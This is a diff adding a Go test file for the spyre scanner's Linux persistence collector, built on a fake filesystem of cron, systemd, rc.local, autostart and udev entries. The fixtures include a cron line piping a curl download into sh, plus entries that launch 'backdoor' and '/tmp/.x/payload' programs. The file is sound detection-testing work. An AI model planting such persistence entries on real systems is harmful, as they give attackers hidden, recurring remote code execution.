@@ -0,0 +1,90 @@
+// +build linux
+
+package persistence
+
+import (
+	"reflect"
+	"regexp"
+	"testing"
+
+	"github.com/spyre-project/spyre/procfs/procfstest"
+)
+
+var fixture = map[string]string{
+	"/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n" +
+		"alice:x:1000:1000::/home/alice:/bin/bash\n",
+	"/etc/crontab": "SHELL=/bin/sh\n" +
+		"# m h dom mon dow user command\n" +
+		"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n",
+	"/etc/cron.d/evil":                        "@reboot root /tmp/.x/payload -d\n",
+	"/etc/cron.daily/logrotate":               "#!/bin/sh\n",
+	"/var/spool/cron/crontabs/alice":          "MAILTO=alice\n*/5 * * * * curl -s http://example.com/x | sh\n",
+	"/etc/anacrontab":                         "1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
+	"/etc/systemd/system/evil.service":        "[Service]\nExecStartPre=-/bin/true\nExecStart=/usr/bin/evil --daemon\n",
+	"/etc/systemd/system/evil.timer":          "[Timer]\nOnBootSec=5min\nUnit=evil.service\n",
+	"/etc/init.d/ssh":                         "#!/bin/sh\n",
+	"/etc/rc.local":                           "#!/bin/sh -e\n/usr/local/bin/backdoor &\nexit 0\n",
+	"/home/alice/.bashrc":                     "alias ls='ls --color'\n",
+	"/home/alice/.config/autostart/x.desktop": "[Desktop Entry]\nType=Application\nExec=/home/alice/.x/agent\n",
+	"/etc/udev/rules.d/99-evil.rules": "# comment\n" +
+		"ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/tmp/usb.sh\"\n" +
+		"SUBSYSTEM==\"net\", NAME=\"eth0\"\n",
+}
+
+func TestCollect(t *testing.T) {
+	tr := procfstest.New(t)
+	defer tr.Remove()
+	for name, content := range fixture {
+		tr.Write(name, content)
+	}
+
+	type result struct{ Type, Location, Command, Owner string }
+	var got []result
+	for _, e := range collect(tr.Root) {
+		// Owners taken from file ownership depend on the user running
+		// the test.
+		owner := e.Owner
+		if e.Line == 0 || e.Type != "cron" && e.Type != "anacron" {
+			owner = ""
+		}
+		got = append(got, result{e.Type, e.location(), e.Command, owner})
+	}
+	expected := []result{
+		{"cron", "/etc/crontab:3", "cd / && run-parts --report /etc/cron.hourly", "root"},
+		{"cron", "/etc/cron.d/evil:1", "/tmp/.x/payload -d", "root"},
+		{"cron", "/var/spool/cron/crontabs/alice:2", "curl -s http://example.com/x | sh", "alice"},
+		{"cron", "/etc/cron.daily/logrotate", "/etc/cron.daily/logrotate", ""},
+		{"anacron", "/etc/anacrontab:1", "run-parts --report /etc/cron.daily", "root"},
+		{"systemd", "/etc/systemd/system/evil.service:2", "/bin/true", ""},
+		{"systemd", "/etc/systemd/system/evil.service:3", "/usr/bin/evil --daemon", ""},
+		{"systemd", "/etc/systemd/system/evil.timer", "evil.service (OnBootSec=5min)", ""},
+		{"sysv", "/etc/init.d/ssh", "/etc/init.d/ssh", ""},
+		{"rc.local", "/etc/rc.local:2", "/usr/local/bin/backdoor &", ""},
+		{"profile", "/home/alice/.bashrc:1", "alias ls='ls --color'", ""},
+		{"xdg-autostart", "/home/alice/.config/autostart/x.desktop:3", "/home/alice/.x/agent", ""},
+		{"udev", "/etc/udev/rules.d/99-evil.rules:2", `ACTION=="add", SUBSYSTEM=="usb", RUN+="/tmp/usb.sh"`, ""},
+	}
+	if !reflect.DeepEqual(got, expected) {
+		t.Errorf("got:\n%v\nexpected:\n%v", got, expected)
+	}
+}
+
+func TestMatch(t *testing.T) {
+	line := (&entry{Type: "cron", Path: "/etc/cron.d/evil", Line: 1, Owner: "root", Command: "/tmp/.x/payload"}).line()
+	for _, c := range []struct {
+		ioc      eventIOC
+		expected bool
+	}{
+		{eventIOC{Type: 0, Value: "/tmp/"}, true},
+		{eventIOC{Type: 1, Value: "/tmp/"}, false},
+		{eventIOC{Type: 2, Value: `^cron,.*/\.[^/]+/`}, true},
+		{eventIOC{Type: 3, Value: `^cron,`}, false},
+	} {
+		if c.ioc.Type >= 2 {
+			c.ioc.re = regexp.MustCompile(c.ioc.Value)
+		}
+		if got := c.ioc.match(line); got != c.expected {
+			t.Errorf("%+v on %s: got %v", c.ioc, line, got)
+		}
+	}
+}